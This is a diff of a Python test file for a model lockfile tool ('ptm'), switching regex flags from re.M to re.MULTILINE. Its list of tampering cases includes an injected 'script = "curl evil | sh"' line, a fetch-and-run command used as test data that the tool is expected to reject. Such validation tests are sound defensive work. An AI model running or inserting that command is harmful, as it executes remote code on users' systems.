@@ -32,12 +32,12 @@ def locked(hub, project, ptm):
     r = ptm("lock")
     assert r.code == 0, r.err
     text = (project / "ptm.lock").read_text()
-    assert [m for m in re.findall(r'^id = "(.*)"$', text, re.M)] == ["org/adapter", "org/base", "org/plain"]
+    assert re.findall(r'^id = "(.*)"$', text, re.MULTILINE) == ["org/adapter", "org/base", "org/plain"]
     return text
 
 
 def _nth_block(text: str, n: int) -> tuple[int, int]:
-    starts = [m.start() for m in re.finditer(r"^\[\[model\]\]$", text, re.M)]
+    starts = [m.start() for m in re.finditer(r"^\[\[model\]\]$", text, re.MULTILINE)]
     return starts[n], starts[n + 1] if n + 1 < len(starts) else len(text)
 
 
@@ -45,7 +45,7 @@ def _in_block(n: int, old: str, new: str, count: int = 1):
     """Replace the first `count` matches of regex `old` inside the n-th [[model]] block."""
     def edit(text: str) -> str:
         a, b = _nth_block(text, n)
-        block, k = re.subn(old, new, text[a:b], count=count, flags=re.M)
+        block, k = re.subn(old, new, text[a:b], count=count, flags=re.MULTILINE)
         assert k, (old, text[a:b])
         return text[:a] + block + text[b:]
     return edit
@@ -58,7 +58,7 @@ def _path(value: str):
 def _duplicate_block(text: str) -> str:
     a, b = _nth_block(text, 2)
     block = text[a:b].replace('id = "org/plain"', 'id = "ORG/Plain"')
-    block = re.sub(r'^commit = "[0-9a-f]{40}"$', f'commit = "{"f" * 40}"', block, flags=re.M)
+    block = re.sub(r'^commit = "[0-9a-f]{40}"$', f'commit = "{"f" * 40}"', block, flags=re.MULTILINE)
     return text + "\n" + block
 
 
@@ -99,7 +99,7 @@ TAMPERINGS = [
      "'model[2].pickle-only': true contradicts the files listed"),
     ("gated = 3", _in_block(2, r'^gated = .*$', "gated = 3"), "'model[2].gated'"),
     ("unknown key", _in_block(2, r'^gated = ', 'script = "curl evil | sh"\ngated = '), "Unknown key in 'model[2].script'"),
-    ("bad manifest-hash", lambda t: re.sub(r'^manifest-hash = ".*"$', 'manifest-hash = "sha256:x"', t, flags=re.M),
+    ("bad manifest-hash", lambda t: re.sub(r'^manifest-hash = ".*"$', 'manifest-hash = "sha256:x"', t, flags=re.MULTILINE),
      "'manifest-hash'"),
     ("newer format", lambda t: t.replace("version = 1", "version = 2"), "format version 2"),
     ("not TOML", lambda t: t + "\n[[model]\n", "not valid TOML"),
